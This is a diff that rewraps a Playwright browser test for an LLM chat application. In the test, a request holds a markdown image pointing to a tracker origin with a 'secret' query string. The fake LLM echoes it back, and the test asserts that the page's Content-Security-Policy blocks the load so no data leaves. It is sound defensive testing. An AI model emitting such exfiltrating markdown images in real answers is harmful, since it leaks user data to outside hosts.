@@ -17,8 +17,16 @@ from app_support import app_settings, photo, running_app
 
 CHROMIUM = Path("/usr/bin/chromium")
 SCREENSHOTS = Path(__file__).resolve().parent.parent / ".tmp" / "screenshots"
-ARGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic", "--disable-background-networking",
-        "--disable-component-update", "--no-first-run", "--disable-sync"]
+ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-dev-shm-usage",
+    "--disable-quic",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--no-first-run",
+    "--disable-sync",
+]
 
 
 def _browser_or_skip():
@@ -63,8 +71,11 @@ def beacon():
 def test_browser_streams_plan_models_media_and_answer(llm_server, tiny_catalog, tmp_path):
     sync_playwright = _browser_or_skip()
     picture = photo(tmp_path / "street.png", (64, 48))
-    with (running_app(app_settings(llm_server, tmp_path / "ws"), catalog=tiny_catalog) as demo, sync_playwright() as p,
-          beacon() as (tracker, hits)):
+    with (
+        running_app(app_settings(llm_server, tmp_path / "ws"), catalog=tiny_catalog) as demo,
+        sync_playwright() as p,
+        beacon() as (tracker, hits),
+    ):
         browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=ARGS)
         try:
             page = browser.new_page(viewport={"width": 1100, "height": 1500})
@@ -77,7 +88,10 @@ def test_browser_streams_plan_models_media_and_answer(llm_server, tiny_catalog, 
             page.locator("#request img").first.wait_for()  # the upload finished: its thumbnail is shown
             box = page.locator("#request textarea")
             # the request carries a markdown image on another origin, and the fake LLM echoes it
-            box.fill(f"[conv-browser] caption this photo, draw the caption and read it aloud ![t]({tracker}/t.png?q=secret)")
+            box.fill(
+                "[conv-browser] caption this photo, draw the caption and read it aloud "
+                f"![t]({tracker}/t.png?q=secret)"
+            )
             sent = time.perf_counter()
             box.press("Enter")
 
@@ -90,9 +104,13 @@ def test_browser_streams_plan_models_media_and_answer(llm_server, tiny_catalog, 
             # the LLM's markdown image became an <img>, and the page's Content-Security-Policy kept the
             # browser from loading it: no request reached the other origin
             injected = chat.locator(f"img[src^='{tracker}']")
-            injected.nth(1).wait_for(state="attached")  # in the request, and at the end of the streamed answer
-            settled = ("img => img.complete ? img.naturalWidth : new Promise(done => ['load', 'error'].forEach("
-                       "e => img.addEventListener(e, () => done(img.naturalWidth))))")
+            injected.nth(1).wait_for(
+                state="attached"
+            )  # in the request, and at the end of the streamed answer
+            settled = (
+                "img => img.complete ? img.naturalWidth : new Promise(done => ['load', 'error'].forEach("
+                "e => img.addEventListener(e, () => done(img.naturalWidth))))"
+            )
             assert injected.last.evaluate(settled) == 0  # the browser settled it: blocked, nothing drawn
             assert hits == [], hits
 
@@ -138,7 +156,10 @@ def test_browser_streams_plan_models_media_and_answer(llm_server, tiny_catalog, 
             while demo.chat_app._conversations and time.time() < deadline:
                 time.sleep(0.1)
             assert not demo.chat_app._conversations and not conv.workspace.root.exists()
-            print(f"\nbrowser: plan shown {plan_seconds:.2f} s after pressing Enter; screenshots in {SCREENSHOTS}")
+            print(
+                f"\nbrowser: plan shown {plan_seconds:.2f} s after pressing Enter; "
+                f"screenshots in {SCREENSHOTS}"
+            )
         except Exception:
             SCREENSHOTS.mkdir(parents=True, exist_ok=True)  # what the page showed when it failed
             with contextlib.suppress(Exception):  # the page may be closed already
